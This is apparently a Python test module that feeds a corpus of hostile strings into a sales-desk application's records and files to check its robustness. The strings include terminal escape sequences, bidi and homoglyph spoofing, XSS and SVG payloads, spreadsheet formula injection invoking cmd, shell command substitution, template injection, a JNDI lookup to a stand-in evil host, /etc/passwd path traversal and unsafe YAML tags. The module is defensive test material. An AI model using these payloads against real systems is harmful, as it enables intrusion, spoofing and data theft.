"""Texts that move a terminal, turn or hide characters, or mean something to a browser, spreadsheet, shell or mailer."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator

from tests.hostile.corpus import Hostile
from tests.hostile.ground import CANARY, CLOSED_RECORD, OFFER, OFFER_FILE, PLAIN, Ground

RUN = f"touch {CANARY}"
MARKUP = f"<script>{CANARY}</script>"

TEXTS: dict[str, str] = {
    # Terminals
    "colour": "\x1b[31mred",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up": "paid\x1b[1A\x1b[2Kunpaid",
    "answerback": "\x1b[c\x1b[6n\x1b[21t",
    "osc 0 title": "\x1b]0;root@host\x07",
    "osc 8 link": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "osc 8 link ended by st": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "osc 1337 file": "\x1b]1337;File=name=eA==:AAAA\x07",
    "dcs": "\x1bP$q\x1b\\",
    "apc": "\x1b_Gf=100;AAAA\x1b\\",
    "c1 csi": "\x9b31mred",
    "c1 osc 52": "\x9d52;c;cm0=\x9c",
    "c1 next line": "one\x85two",
    "bell": "\x07" * 50,
    "backspaces": "evil\b\b\b\bgood",
    "carriage return": "unpaid\rpaid  ",
    "vertical": "a\x0bb\x0cc",
    "delete": "a\x7fb",
    "shift out": "a\x0eb\x0f",
    "nul": "a\0b",
    "tab": "a\tb\tc",
    "escape at the end": "x\x1b",
    # Characters that turn, hide or look alike
    "bidi override": "invoice \u202efdp.exe",
    "bidi isolates": "\u2066a\u2067b\u2069\u2068c",
    "bidi embedding": "\u202aa\u202bb\u202c",
    "arabic letter mark": "a\u061cb\u200eb\u200f",
    "zero width": "pay\u200bpal \u2060x\ufeffy",
    "zero width joiners alone": "\u200d \u200c",
    "soft hyphen": "adm\u00adin",
    "tag characters": "ok\U000e0001\U000e0072\U000e006d",
    "line separators": "a\u2028b\u2029c",
    "variation selectors": "a" + "\ufe0f\U000e0100" * 200,
    "noncharacters": "a\uffff\ufdd0\U0010ffffb",
    "private use": "\ue000\U000f0000",
    "object replacement": "\ufffc\ufffd\ufff9",
    "zalgo": "Z" + "\u0301\u0489" * 2000,
    "hangul filler": "\u3164\u115f\uffa0",
    "braille blank": "\u2800",
    "homoglyphs": "іvаnоvа",
    "wide": "Ａ" * 300 + "👩‍👩‍👧" * 100,
    "decomposed": unicodedata.normalize("NFD", "Ёлка Łódź"),
    # Size
    "long word": "w" * 100_000,
    "long words": "word " * 20_000,
    "many lines": "line\n" * 5_000,
    # Browsers
    "script": f"{MARKUP}",
    "attribute": f'"><img src=x onerror={CANARY}()>',
    "attribute in single quotes": f"' onmouseover='{CANARY}()",
    "svg": f'<svg/onload={CANARY}()><use href="data:image/svg+xml,{CANARY}">',
    "comment": f"--><!--{MARKUP}",
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "cdata": f"]]>{MARKUP}",
    "entities": f"&lt;script&gt;&#60;script&#62;{CANARY}",
    "javascript address": f"javascript:{CANARY}()",
    # Spreadsheets, Markdown, calendars, mail
    "formula": f'=cmd|"/c {RUN}"!A1',
    "formula plus": "+1+cmd|' /c calc'!A0",
    "formula minus": "-2+3+cmd|' /c calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /c calc'!A0",
    "formula after tab": "\t=1+1",
    "formula after return": "\r=1+1",
    "formula full width": "＝1+1",
    "formula after quotes": '","=1+1","',
    "markdown link": f"[pay](javascript:{CANARY}()) ![x](//evil.example/x.png)",
    "markdown table": "a | b\n|---|---|\n| x `y` | # z",
    "calendar lines": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:x",
    "mail header": "x\r\nBcc: all@example.com\r\n\r\nbody",
    # Shells, templates, formats, paths, trailers
    "shell": f"$({RUN}) `{RUN}` ; {RUN} | {RUN}",
    "template": "{{ 7*7 }}{% for i in range(9**9) %}{{ i }}{% endfor %}{# x",
    "format": "{0.__class__.__mro__} %s %n %(x)s {place} {",
    "lookup": "${jndi:ldap://evil.example/x}",
    "path": "../../../../etc/passwd",
    "option": f"--output={CANARY}",
    "trailer": "x\n\nSigned-off-by: Petrova <petrova@example.com>\nCo-authored-by: x <x@x>",
    "json": '", "do": "resolved", "x": "',
    "yaml": "x: [y\n- &a *a\n!!python/object:os.system\n---\n...",
}


def _in_record(ground: Ground, text: str) -> None:
    """In all that people type into requests."""
    said = json.dumps(text)
    ground.header(OFFER, f"title: {said}", "title: Offer of rebar")
    ground.header(OFFER, f"fields:\n  place: {said}\n  {json.dumps('k' + text[:50])}: x\nwhim: {said}")
    ground.event(
        OFFER,
        {"text": text},
        {"do": "message_in", "text": text, "channel": text},
        {"do": "promised", "text": text, "due": "2026-11-23T12:00:00+03:00"},
        {"do": "set", "values": {text: text, "place": text}, "old": {"place": text}},
        {"do": "waiting", "for": text, "why": text},
        {"do": "resumed", "why": text},
        {"do": text, "whatever": text, text: 1},
        {"do": "attached", "file": f"files/{text}", "name": text},
        {"do": "handed_off", "to": text, "note": text, "within": text},
        {"do": "returned", "why": text, "reason": text},
    )
    ground.event(PLAIN, {"by": text}, {"do": "handed_off", "to": "customs", "note": text, "within": text})
    old = "title: Closed one"
    ground.replace(CLOSED_RECORD, old, f"title: {said}\nclient: {said}\nchannel: {said}\ncontroller: {said}")


def _in_reference(ground: Ground, text: str) -> None:
    """In the desk's own files."""
    said = json.dumps(text)
    ground.put("desk.yaml", ground.text("desk.yaml").replace("name: desk", f"name: {said}"))
    team = (
        ground.text("team.yaml").replace("{title: Продажи,", f"{{title: {said},").replace("name: Ким", f"name: {said}")
    )
    ground.put("team.yaml", team.replace("Kuznetsov,", f"Kuznetsov, role: {said},", 1))
    ground.put("channels.yaml", f"email: {{kind: {said}, title: {said}, address: {said}, hours: {said}}}\n")
    own = f"name: {said}\nnotes: {said}\ncontacts: {{phone: {said}}}\nrequisites: {{inn: {said}}}\n"
    ground.put("clients/metallstroy.yaml", own)
    ground.put("clients/zoo.yaml", own)
    price = f"{{sku: {said}, name: {said}, unit: {said}, price: 1}}"
    ground.put("prices/main.yaml", f"list: main\ntitle: {said}\ncurrency: RUB\nvat: standard\nitems:\n- {price}\n")
    office = ground.text("calendars/office.yaml")
    ground.put("calendars/office.yaml", office.replace("calendar: office\n", f"calendar: office\ntitle: {said}\n"))
    old = "title: Check the extinguishers"
    ground.put(
        "errands/extinguishers.yaml",
        ground.text("errands/extinguishers.yaml").replace(old, f"title: {said}\ntext: {said}"),
    )
    ground.commit(message=text.replace("\0", ""))


def _in_offer(ground: Ground, text: str) -> None:
    """In an offer and what its page is made of."""
    said = json.dumps(text)
    offer = ground.text(OFFER_FILE)
    assert "name: Rebar A500C" in offer
    ground.put(OFFER_FILE, offer.replace("name: Rebar A500C", f"name: {said}\n  note: {said}", 1))
    ground.put(
        "desk.yaml", ground.text("desk.yaml") + f"seller_ru: {{name: {said}, address: {said}, website: {said}}}\n"
    )
    ground.put("templates/logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="x"><text>{text}</text></svg>')
    ground.put("channels.yaml", f"phone: {{kind: phone, address: {said}}}\n")
    ground.commit()


def _in_regulation(ground: Ground, text: str) -> None:
    """In a regulation: titles, reasons, prose."""
    said = json.dumps(text)
    path = "regulations/credit-application.md"
    ground.put(path, ground.text(path).replace("because: ", f"because: {said} # ", 1) + f"\n# {text}\n\n{text}\n")
    path = "regulations/commercial-offer.md"
    front = ground.text(path).replace("\ntitle: ", f"\ntitle: {said}\nunused: {said} # ", 1)
    ground.put(path, front.replace("\nunused: ", "\n# ") + f"\n# {text}\n\n{text}\n")
    ground.commit()


_SOME = (
    "clear screen",
    "osc 8 link",
    "c1 osc 52",
    "bidi override",
    "zero width",
    "nul",
    "zalgo",
    "long word",
    "script",
    "attribute",
    "svg",
    "style",
    "javascript address",
    "formula",
    "markdown link",
    "template",
    "format",
    "path",
    "many lines",
)


def inputs() -> Iterator[Hostile]:
    """Each text in requests and in the desk's own files, some of them in offers and regulations too."""
    for name, text in TEXTS.items():
        yield Hostile("text in requests", name, lambda ground, text=text: _in_record(ground, text))
        yield Hostile("text in reference", name, lambda ground, text=text: _in_reference(ground, text))
    for name in _SOME:
        yield Hostile("text in offers", name, lambda ground, text=TEXTS[name]: _in_offer(ground, text))
        yield Hostile("text in regulations", name, lambda ground, text=TEXTS[name]: _in_regulation(ground, text))
